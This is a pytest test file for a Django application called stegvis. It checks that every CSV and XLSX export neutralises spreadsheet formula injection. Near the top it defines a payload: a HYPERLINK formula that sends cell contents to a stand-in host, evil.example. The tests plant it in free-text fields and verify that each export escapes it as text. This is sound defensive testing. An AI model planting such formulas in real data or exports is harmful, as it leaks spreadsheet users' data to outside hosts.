"""No spreadsheet stegvis writes runs a formula typed into stegvis (CSV injection).

One malicious text in every free-text field that reaches an export, then every export walked:
each report as CSV and XLSX, the report package, the SUS export, the payout workbook and the
full export (web and ``stegvis export``)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from stegvis.activities import services as activity_services
from stegvis.core.models import Association
from stegvis.core.spreadsheet import csv_writer, safe_cell, workbook_bytes
from stegvis.interventions.models import Budget, Financier, OutcomeBooking
from stegvis.reports.definitions import REPORTS
from tests.activities.conftest import (  # noqa: F401  (shared fixtures)
    association,
    coordinator,
    hub,
    leader,
    make_activity,
    working_group,
)
from tests.participants.conftest import enrol, register, scope  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


@pytest.mark.parametrize("text", ["=1+1", "+46701234567", "-x", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_would_run_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -5.5, 0, 12, None, "Kristianstad", "", "a=b", True])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_writers_neutralise_and_keep_negative_numbers():
    out = io.StringIO()
    csv_writer(out).writerow([EVIL, -5000, "-5000"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + EVIL, "-5000", "'-5000"]
    book = Workbook()
    book.active.append([EVIL, -5000])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == "'" + EVIL
    assert sheet["B1"].value == -5000


def test_no_writer_bypasses_the_neutralising_module():
    """Every CSV or workbook writer in the code goes through core.spreadsheet."""
    root = Path(__file__).resolve().parents[2] / "src" / "stegvis"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheet.py" or "migrations" in path.parts:
            continue
        text = path.read_text()
        for pattern in ("csv.writer(", "csv.DictWriter(", ".save(buffer)", "Workbook()"):
            if pattern in text and not (pattern == "Workbook()" and "workbook_bytes" in text):
                # tables.py converts an upload to CSV text for parsing: input, not an export
                if path.name == "tables.py" and pattern == "csv.writer(":
                    continue
                offenders.append(f"{path.relative_to(root)}: {pattern}")
    assert offenders == []


def _check_csv(text: str) -> list[str]:
    text = text.lstrip("\ufeff")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
    live = [c for c in cells if c.startswith(DANGEROUS) and not NUMBER.match(c)]
    assert live == []
    return cells


def _check_xlsx(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), cell.value
                values.append(cell.value)
    return values


@pytest.fixture
def poisoned(request, federation, intervention, admin):
    use = request.getfixturevalue
    today = timezone.localdate()
    federation.name = EVIL
    federation.save()
    person = use("register")(intervention, municipality=EVIL)
    use("enrol")(person, intervention, today - timedelta(days=60))
    financier = Financier.objects.create(intervention=intervention, name=EVIL, kind="esf")
    Budget.objects.create(financier=financier, year=today.year, amount=1_000)
    OutcomeBooking.objects.create(financier=financier, booked_on=today, amount=6_000)
    Association.objects.filter(pk=use("leader").association_id).update(name=EVIL)
    activity = use("make_activity")()
    place = activity_services.place_create(
        actor=admin.user,
        membership=admin,
        activity=activity,
        enrolment=person.enrolments.get(),
    )
    for session in activity.sessions.all():
        activity_services.attendance_record(
            actor=admin.user, membership=None, session=session, place=place, present=True
        )
    compensation = activity_services.compensation_compute(
        actor=use("coordinator").user, membership=use("coordinator"), activity=activity
    )
    activity_services.compensation_approve(
        actor=admin.user, membership=admin, compensation=compensation
    )
    return federation


@pytest.mark.django_db
def test_every_export_writes_the_formula_as_text(client, poisoned, admin, tmp_path):
    client.force_login(admin.user)
    base = f"/f/{poisoned.slug}"
    neutral = "'" + EVIL
    seen = []
    for name in REPORTS:
        response = client.get(f"{base}/rapporter/{name}.csv")
        assert response.status_code == 200, name
        seen += _check_csv(response.content.decode())
        response = client.get(f"{base}/rapporter/{name}.xlsx")
        assert response.status_code == 200, name
        seen += _check_xlsx(response.content)
    budget = _check_xlsx(client.get(f"{base}/rapporter/budget.xlsx").content)
    assert neutral in budget
    assert -5_000 in budget  # what is left of the budget: a negative number stays a number
    package = _check_xlsx(client.get(f"{base}/rapporter/paket.xlsx").content)
    assert neutral in package
    sus = _check_csv(client.get(f"{base}/rapporter/sus-export.csv").content.decode())
    assert neutral in sus
    payout = client.get(f"{base}/ersattningar/utbetalningar.xlsx")
    assert payout.status_code == 200
    assert neutral in _check_xlsx(payout.content)
    archive_web = client.post(f"{base}/export/").content
    output = tmp_path / "export.zip"
    call_command("export", "--federation", poisoned.slug, "--output", str(output))
    for data in (archive_web, output.read_bytes()):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            cells = []
            for member in archive.namelist():
                if member.endswith(".csv"):
                    cells += _check_csv(archive.read(member).decode())
        assert neutral in cells
    assert EVIL not in seen
